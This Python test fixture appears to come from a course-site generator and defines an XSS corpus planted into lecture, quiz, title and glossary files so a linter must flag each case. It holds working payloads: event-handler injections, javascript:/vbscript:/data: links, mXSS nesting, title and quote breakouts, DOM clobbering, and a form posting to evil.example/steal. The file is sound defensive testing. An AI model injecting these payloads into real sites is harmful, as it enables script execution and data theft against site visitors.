"""The XSS corpus: every way a pull request could try to put script into the course site, each
with the line `curriculum check` must name. One curriculum holds all of them (see `plant`)."""

from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path

from .helpers import edit

PWN = "window.__pwned=1"
INTRO = "lectures/informatics/inf-intro.md"
INTRO_ZH = "lectures/informatics/inf-intro.zh-TW.md"
MODELS = "lectures/ai/ai-models.md"
EXCHANGE = "lectures/informatics/inf-exchange.md"


@dataclass(frozen=True)
class Vector:
    name: str
    path: str  # the file it is planted in
    old: str  # the fixture's text it replaces (or follows, for body vectors)
    new: str
    needle: str  # text on the line the check must name
    rule: str | None  # what `curriculum check` reports; None: shown as typed, nothing to report


def _body(name: str, text: str, needle: str, rule: str = "html-removed") -> Vector:
    return Vector(name, INTRO, "", text, needle, rule)


# Lecture body vectors: each its own paragraph of inf-intro.md, after its first paragraph.
BODY = [
    _body("details ontoggle", f'<details open ontoggle="{PWN}"><summary>Open me</summary>Details body.</details>',
          "<summary>Open me"),
    _body("attr_list onclick on a paragraph", f'Paragraph with an attribute list.\n{{: onclick="{PWN}" }}',
          "{: onclick="),
    _body("attr_list onclick on a heading", f'## Heading with an attribute list {{: onclick="{PWN}" }}',
          "## Heading with"),
    _body("entity-encoded javascript: Markdown link", f"[entity link](jav&#x61;script:{PWN})", "[entity link]"),
    _body("entity-encoded javascript: in <a href>", f'<a href="jav&#x61;script:{PWN}">entity anchor</a>',
          "entity anchor"),
    _body("vbscript: link", "[vb link](vbscript:msgbox(1))", "[vb link]"),
    _body("javascript: reference definition", f"A [reference link][evil].\n\n[evil]: javascript:{PWN}",
          "[evil]: javascript"),
    _body("javascript: autolink", f"<javascript:{PWN}>", "<javascript:"),
    # Browsers drop a tab inside a scheme; Markdown expands it to spaces first ("java   script:"
    # is a relative address), so nothing is removed and nothing is reported.
    _body("javascript: with a tab", f'<a href="java\tscript:{PWN}">tab anchor</a>', "tab anchor", None),
    _body("javascript: with an encoded tab", f'<a href="java&#9;script:{PWN}">encoded tab anchor</a>',
          "encoded tab anchor"),
    # The lines look fenced to a reader, but four spaces make them code blocks: the script is raw HTML.
    _body("script hidden by an indented fence", f"    ```\n<script>{PWN}/*fence*/</script>\n    ```", "/*fence*/"),
    _body("img onerror", f'<img src=x onerror="{PWN}" alt="onerror image">', "onerror image"),
    _body("svg onload", f'<svg onload="{PWN}"><circle r="5"/></svg>', "<svg onload"),
    _body("style element", "<style>article { background: url(https://evil.example/bg.png) }</style>", "<style>article"),
    _body("meta http-equiv refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
          "<meta http-equiv"),
    _body("form action", '<form action="https://evil.example/steal"><input name="q"><button>Send</button></form>',
          "<form action"),
    _body("iframe", '<iframe src="https://evil.example/frame"></iframe>', "<iframe"),
    _body("object", '<object data="https://evil.example/x.swf"></object>', "<object"),
    _body("embed", '<embed src="https://evil.example/x.swf">', "<embed"),
    _body("base href", '<base href="https://evil.example/">', "<base"),
    _body("data:text/html link", "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
          "[data link]"),
    _body("mXSS math/mglyph/style", f'<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">'
          "</style></mglyph></table></mtext></math>", "<math>"),
    _body("DOM clobbering id __config", '<div id="__config">clobbered</div>', 'id="__config"'),
    _body("remote image", '<img src="https://evil.example/pixel.png" alt="pixel">', "evil.example/pixel.png",
          "md-external-resource"),
]
BODY_ANCHOR = "A CMIO is not the CIO [2].\n"

# Quiz text of inf-intro's formative quiz (on the site; feedback shows after an answer).
QUIZ = [
    Vector("quiz prompt", INTRO, "    prompt: What does interoperability give a clinician?",
           f"    prompt: 'What does interoperability give? <img src=x onerror=\"{PWN}\">'", "prompt: 'What does",
           "html-removed"),
    Vector("quiz choice text", INTRO, "      - text: The record from another hospital",
           f"      - text: 'The record <svg onload=\"{PWN}\"></svg>'", "text: 'The record", "html-removed"),
    Vector("quiz feedback", INTRO, "        feedback: Yes, data can be exchanged and used.",
           f"        feedback: 'Yes <a href=\"javascript:{PWN}\">more</a>'", "feedback: 'Yes", "html-removed"),
    Vector("quiz hint", INTRO, "    hint: Think of a patient transferred from another hospital.",
           f"    hint: 'Think <details open ontoggle=\"{PWN}\"><summary>h</summary>x</details>'", "hint: 'Think",
           "html-removed"),
    Vector("quiz explanation", INTRO, "    explanation: Interoperability means exchanging data and using it.",
           f"    explanation: '<script>{PWN}</script>Exchanging data.'", "explanation: '<script>", "html-removed"),
]

# Titles: page templates print them raw (<title>), escaped and through striptags. A
# `" data-pwned="1` breakout would give an element a data-pwned attribute if it escaped its quotes.
TITLES = [
    Vector("lecture title </title><script>", INTRO, "title: What a CMIO is for",
           f"title: '</title><script>{PWN}</script>CMIO'", "title: '</title>", "title-markup"),
    Vector("lecture title &lt;/title&gt; references", MODELS, "title: What clinical AI models do",
           f"title: '&lt;/title&gt;&lt;script&gt;{PWN}&lt;/script&gt;AI'", "title: '&lt;", "title-markup"),
    Vector("lecture title quote breakout", EXCHANGE, "title: Exchanging records between hospitals",
           "title: 'Exchange\" data-pwned=\"1\" x=\"'", "title: 'Exchange", None),
    Vector("translation title", INTRO_ZH, "title: 醫療資訊長的任務",
           f"title: '醫療</title><script>{PWN}</script>'", "title: '醫療", "title-markup"),
    Vector("module title", "domains/informatics.yml", "title: {en: The CMIO role,",
           f"title: {{en: '<svg onload=\"{PWN}\">Role', ", "<svg onload", "title-markup"),
    Vector("domain title </title><script>", "domains/ai.yml", "title: {en: Artificial Intelligence,",
           f"title: {{en: '</title><script>{PWN}</script>AI', ", "title: {en: '</title>", "title-markup"),
    Vector("programme title (site_name) </title><script>", "programme.yml", "title: {en: Mini CMIO Programme,",
           "title: {en: '</title><script>alert(1)</script>Mini', ", "</title><script>alert", "title-markup"),
    Vector("programme title quote breakout (zh-TW site_name)", "programme.yml", "zh-TW: 迷你醫療資訊長課程}",
           "zh-TW: '迷你\" data-pwned=\"1'}", "迷你\"", None),
]

OTHER = [
    Vector("programme description", "programme.yml", "    Physician executives who lead clinical informatics.",
           f'    Physician executives who lead clinical informatics. <img src=x onerror="{PWN}">', "  en: |",
           "html-removed"),
    # Shown as typed wherever they appear (escaped text, a tooltip's title attribute).
    Vector("glossary definition", "glossary.yml",
           "    en: The ability of systems to exchange data and use the data exchanged.",
           f"    en: 'Exchange <script>{PWN}</script> and \" data-pwned=\"1'", "en: 'Exchange", None),
    Vector("objective", INTRO, "  inf-intro-b: Explain why interoperability matters to clinicians.",
           f"  inf-intro-b: 'Explain interoperability <img src=x onerror=\"{PWN}\">'", "inf-intro-b: 'Explain",
           "html-removed"),
    Vector("reference entry", INTRO, '  - "Ministry of Health and Welfare.',
           f'  - "Ministry <script>{PWN}</script> https://x.example/\\" data-pwned=\\"1. Ministry of Health and Welfare.',
           '  - "Ministry <script>', None),
]

VECTORS = BODY + QUIZ + TITLES + OTHER


def plant(root: Path) -> None:
    """Put every vector into the curriculum at `root` (a copy of the site fixture)."""
    edit(root, INTRO, BODY_ANCHOR, BODY_ANCHOR + "".join(f"\n{v.new}\n" for v in BODY))
    for vector in QUIZ + TITLES + OTHER:
        edit(root, vector.path, vector.old, vector.new)
